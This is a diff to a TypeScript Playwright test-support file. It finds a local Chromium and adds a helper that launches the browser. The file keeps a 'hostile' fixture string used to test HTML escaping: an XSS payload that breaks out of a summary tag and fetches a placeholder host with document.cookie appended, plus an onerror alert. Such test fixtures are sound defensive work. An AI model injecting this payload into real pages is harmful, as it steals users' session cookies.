@@ -1,5 +1,5 @@
 import { existsSync } from 'node:fs';
-import type { Browser, Page } from 'playwright-core';
+import { type Browser, chromium, type Page } from 'playwright-core';
 
 /** Test support: the browser of this machine, if it has one. */
 export const browserPath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path));
@@ -7,6 +7,11 @@ if (!browserPath) console.warn('Pages are not looked at: there is no chromium (a
 
 /** Text that does something where it is taken for HTML. */
 export const hostile = '</summary><script>fetch("https://example.com/?" + document.cookie)</script><img src=x onerror=alert(1)>';
+
+/** Starts the browser of {@link browserPath}. */
+export function launchBrowser(): Promise<Browser> {
+  return chromium.launch({ executablePath: browserPath ?? '', args: ['--no-sandbox'], timeout: 120_000 });
+}
 
 interface WatchedPage {
   readonly page: Page;
